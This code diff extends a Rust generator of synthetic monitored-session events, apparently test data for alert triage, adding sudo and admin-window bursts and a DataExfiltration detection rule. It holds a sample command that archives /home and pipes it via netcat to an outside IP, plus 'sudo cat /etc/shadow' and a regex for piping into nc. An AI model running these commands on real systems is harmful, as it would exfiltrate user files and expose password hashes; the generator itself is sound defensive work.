@@ -1350,6 +1350,7 @@ pub fn events(s: &GenSession, key: &str, t: &Tables) -> Vec<GenEvent> {
             lines.insert(at, interesting_command(i).to_owned());
         }
     }
+    let burst = triage_lines(s, &mut lines);
     let user = s.server_username(t);
     let host = s.server(t).map(|x| x.name.as_str()).unwrap_or("host");
     let kind = match s.protocol {
@@ -1357,14 +1358,13 @@ pub fn events(s: &GenSession, key: &str, t: &Tables) -> Vec<GenEvent> {
         4 => "http_request",
         _ => "window_title",
     };
-    let span = i64::from(s.duration.max(1)) * 1000;
-    let count = lines.len() as i64;
+    let times = event_times(s, lines.len(), burst);
     let _ = key;
     lines
         .into_iter()
+        .zip(times)
         .enumerate()
-        .map(|(i, line)| {
-            let time_ms = s.start_ms + span * (i as i64 + 1) / (count + 1);
+        .map(|(i, (line, time_ms))| {
             let kind = if kind == "command" && line.starts_with("scp ") {
                 "file_transfer"
             } else {
@@ -1393,6 +1393,81 @@ pub fn events(s: &GenSession, key: &str, t: &Tables) -> Vec<GenEvent> {
         .collect()
 }
 
+/// Lines of a burst on a terminal: each matches the noisy `sudo` rule.
+const BURST_COMMANDS: &[&str] = &[
+    "sudo -i",
+    "sudo systemctl restart nginx",
+    "sudo cat /etc/shadow",
+    "sudo journalctl -u sshd",
+    "sudo tail -n 200 /var/log/auth.log",
+];
+/// Window titles of a burst on a desktop: each matches a `PatternMatcherRule`.
+const BURST_TITLES: &[&str] = &[
+    "Administrator: cmd.exe",
+    "Windows PowerShell - powershell.exe",
+    "Registry Editor - regedit",
+];
+/// The one line of the rare rule (`DataExfiltration`).
+const RARE_COMMAND: &str = "tar czf - /home | nc 203.0.113.9 4444";
+
+/// Whether the session's gateway user is one of the few noisy ones (about
+/// one user in 16) whose sessions burst far more often.
+pub fn noisy_user(s: &GenSession) -> bool {
+    s.user % 16 == 3
+}
+
+/// Lines that make triage across sessions meaningful, only where alerts are
+/// stored: a burst (several lines that raise alerts within seconds; half of
+/// the noisy users' sessions, one in 12 of the others') and, in about one
+/// terminal session in 150, the rare rule's line. A separate random stream,
+/// so the other lines stay what they were. Returns where the burst starts
+/// and how long it is.
+fn triage_lines(s: &GenSession, lines: &mut Vec<String>) -> Option<(usize, usize)> {
+    if !s.has_content_policy() || s.protocol == 4 {
+        return None;
+    }
+    let mut rng = detail_rng(s, 0x7E1A6E);
+    if s.is_terminal() && rng.gen_ratio(1, 150) {
+        let at = rng.gen_range(0..=lines.len());
+        lines.insert(at, RARE_COMMAND.to_owned());
+    }
+    let odds = if noisy_user(s) { (1, 2) } else { (1, 12) };
+    if !rng.gen_ratio(odds.0, odds.1) {
+        return None;
+    }
+    let pool = if s.is_terminal() {
+        BURST_COMMANDS
+    } else {
+        BURST_TITLES
+    };
+    let len = rng.gen_range(3..=7usize);
+    let at = rng.gen_range(1..=lines.len());
+    for k in 0..len {
+        let line = pool[rng.gen_range(0..pool.len())];
+        lines.insert(at + k, line.to_owned());
+    }
+    Some((at, len))
+}
+
+/// Event times: spread evenly over the session, except a burst's lines,
+/// which follow the line before them a second or so apart (closer when the
+/// next line comes sooner), so the times stay in record order.
+fn event_times(s: &GenSession, n: usize, burst: Option<(usize, usize)>) -> Vec<i64> {
+    let span = i64::from(s.duration.max(1)) * 1000;
+    let (at, len) = burst.unwrap_or((n, 0));
+    let base = (n - len) as i64;
+    let even = |i: usize| s.start_ms + span * (i as i64 + 1) / (base + 1);
+    let mut times: Vec<i64> = (0..n - len).map(even).collect();
+    if len > 0 {
+        let before = if at == 0 { s.start_ms } else { times[at - 1] };
+        let after = times.get(at).copied().unwrap_or(s.start_ms + span);
+        let step = ((after - before) / (len as i64 + 1)).clamp(0, 1200);
+        let burst_times = (1..=len as i64).map(|k| before + k * step);
+        times.splice(at..at, burst_times);
+    }
+    times
+}
+
 /// A content-policy rule: `regexp` really matches every text containing `trigger`.
 struct Rule {
     trigger: &'static str,
@@ -1401,6 +1476,11 @@ struct Rule {
 }
 
 const RULES: &[Rule] = &[
+    Rule {
+        trigger: "| nc ",
+        regexp: "\\|\\s*nc\\s+\\S+\\s+\\d+",
+        name: "DataExfiltration",
+    },
     Rule {
         trigger: "sudo",
         regexp: "sudo",
